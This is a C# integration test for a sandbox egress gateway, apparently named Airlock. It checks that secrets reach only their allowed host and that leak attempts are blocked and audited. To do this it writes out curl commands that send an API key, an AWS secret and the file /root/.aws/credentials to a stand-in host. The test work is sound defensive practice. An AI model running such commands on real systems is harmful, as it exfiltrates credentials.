using System.Security.Cryptography;

namespace Airlock.Integration.Tests.Egress;

/// <summary>
/// Secrets and canaries end to end: the sandbox holds only a placeholder, the gateway puts the real value into
/// requests to the secret's host (TLS terminated with the sandbox's own CA, installed in its trust store), blocks
/// the placeholder anywhere else, and blocks a planted canary leaving in a body with an alert.
/// </summary>
[Collection(SandboxCollection.Name)]
public sealed class EgressSecretTests(EgressSession session) : IClassFixture<EgressSession>
{
    /// <summary>
    /// Searches every process's environ and cmdline and the whole filesystem (grep reading the needle from stdin) for
    /// argv[1] reversed: the value itself is never on a command line or in an environment inside the sandbox.
    /// </summary>
    private const string Search =
        "import os,subprocess,sys\n" +
        "n=sys.argv[1][::-1].encode()\n" +
        "hits=[]\n" +
        "for p in [p for p in os.listdir('/proc') if p.isdigit()]:\n" +
        " for f in ('environ','cmdline'):\n" +
        "  try:\n" +
        "   hits += [f'/proc/{p}/{f}'] if n in open(f'/proc/{p}/{f}','rb').read() else []\n" +
        "  except OSError: pass\n" +
        "r=subprocess.run(['grep','-rlsF','--exclude-dir=proc','--exclude-dir=sys','--exclude-dir=dev','-f','/dev/stdin','/'],input=n+b'\\n',capture_output=True)\n" +
        "hits += r.stdout.decode().split()\n" +
        "print(hits)\n" +
        "sys.exit(1 if hits or r.returncode > 1 else 0)";

    [Theory]
    [InlineData("container")]
    [InlineData("microvm")]
    public async Task Secret_ReachesItsHostAsTheRealValue_IsBlockedElsewhere_AndIsNowhereInTheSandbox(string tier)
    {
        var inet = session.Internet;
        var real = "sk_live_" + Convert.ToHexStringLower(RandomNumberGenerator.GetBytes(16));
        var id = await session.CreateAsync(
            "network: { allow: [ \"pkgs.test\", \"api.test\" ] }\n" +
            "secrets:\n  STRIPE_KEY: { from: \"env:AIRLOCK_TEST_STRIPE\", hosts: [ \"api.test\" ] }\n",
            tier,
            env: new Dictionary<string, string> { ["AIRLOCK_TEST_STRIPE"] = real });
        // The search runs with the value reversed on its command line, so the search itself never holds it in argv.
        var reversed = new string(real.Reverse().ToArray());
        var script = EgressSession.StepFunction +
            "step placeholder bash -c 'echo $STRIPE_KEY'\n" +
            $"step api curl -fsS --max-time 10 -H \"Authorization: Bearer $STRIPE_KEY\" https://api.test/charge/{id}\n" +
            $"step api_direct noproxy curl -fsS --max-time 10 -H \"Authorization: Bearer $STRIPE_KEY\" https://api.test/charge-direct/{id}\n" +
            "step leak_header noproxy curl -fsS --max-time 10 -H \"Authorization: Bearer $STRIPE_KEY\" http://pkgs.test/leak-header\n" +
            "step leak_query curl -fsS --max-time 10 \"http://pkgs.test/leak-query?k=$STRIPE_KEY\"\n" +
            "step leak_tls noproxy curl -fsS --max-time 10 -H \"Authorization: Bearer $STRIPE_KEY\" https://pkgs.test/leak-tls\n" +
            "step canary_tls curl -fsS --max-time 10 -X POST --data \"aws=$AWS_SECRET_ACCESS_KEY\" https://pkgs.test/upload-tls\n" +
            "step canary_body curl -fsS --max-time 10 -X POST --data \"aws=$AWS_SECRET_ACCESS_KEY\" http://pkgs.test/upload\n" +
            "step canary_file noproxy curl -fsS --max-time 10 --data-binary @/root/.aws/credentials http://pkgs.test/upload-file\n" +
            $"step search python3 -c \"{Search}\" {reversed}\n";
        var run = await session.ShAsync(id, script);
        var results = EgressSession.Results(run);
        var report = run.ToString();

        Assert.StartsWith("airlock-placeholder-", results["placeholder"].Output, StringComparison.Ordinal);
        Assert.DoesNotContain(real, results["placeholder"].Output, StringComparison.Ordinal);
        Assert.True(results["api"].Exit == 0, report);
        Assert.True(results["api_direct"].Exit == 0, report);
        // The test internet is shared by the tiers' rows: this sandbox's requests carry its id.
        var charges = inet.Log("requests.log").Where(r => r.GetProperty("path").GetString()!.StartsWith("/charge", StringComparison.Ordinal) && r.GetProperty("path").GetString()!.EndsWith(id, StringComparison.Ordinal)).ToList();
        Assert.Equal(2, charges.Count);
        Assert.All(charges, r => Assert.Equal($"Bearer {real}", r.GetProperty("headers").GetProperty("Authorization").GetString()));

        foreach (var blocked in new[] { "leak_header", "leak_query", "leak_tls", "canary_body", "canary_file", "canary_tls" })
        {
            Assert.True(results[blocked].Exit != 0 || results[blocked].Output.Contains("403", StringComparison.Ordinal), $"{blocked} got through:\n{report}");
        }

        Assert.DoesNotContain(inet.Log("requests.log"), r => r.GetProperty("path").GetString()!.StartsWith("/leak", StringComparison.Ordinal) || r.GetProperty("path").GetString()!.StartsWith("/upload", StringComparison.Ordinal));
        Assert.True(results["search"].Exit == 0, $"the real value is in the sandbox's files or process table:\n{report}");

        var audit = await session.AuditAsync(id);
        Assert.Contains(audit, r => r.GetProperty("kind").GetString() == "network.decision" && r.GetProperty("details").TryGetProperty("secrets", out var s) && s.GetString() == "STRIPE_KEY");
        Assert.Contains(audit, r => r.GetProperty("kind").GetString() == "anomaly" && r.GetProperty("details").GetProperty("reason").GetString() == "secret_exfiltration");
        Assert.Contains(audit, r => r.GetProperty("kind").GetString() == "anomaly" && r.GetProperty("details").GetProperty("reason").GetString() == "canary");
        Assert.DoesNotContain(real, string.Join('\n', audit.Select(r => r.GetRawText())), StringComparison.Ordinal);

        // The process table, searched from the host for the sandbox's processes (a microVM's: QEMU and its bridge): no
        // environ or cmdline holds it.
        var pids = Directory.EnumerateFiles("/sys/fs/cgroup", "cgroup.procs", SearchOption.AllDirectories)
            .Where(f => f.Contains($"/airlock/{id}/", StringComparison.Ordinal) || f.Contains($"/airlock-vmm/{id}/", StringComparison.Ordinal))
            .SelectMany(f => File.ReadAllLines(f)).Distinct().ToList();
        Assert.NotEmpty(pids);
        foreach (var pid in pids)
        {
            foreach (var file in new[] { "environ", "cmdline" })
            {
                var text = File.Exists($"/proc/{pid}/{file}") ? System.Text.Encoding.Latin1.GetString(File.ReadAllBytes($"/proc/{pid}/{file}")) : "";
                Assert.DoesNotContain(real, text, StringComparison.Ordinal);
            }
        }
        await session.RemoveAsync(id);
    }
}
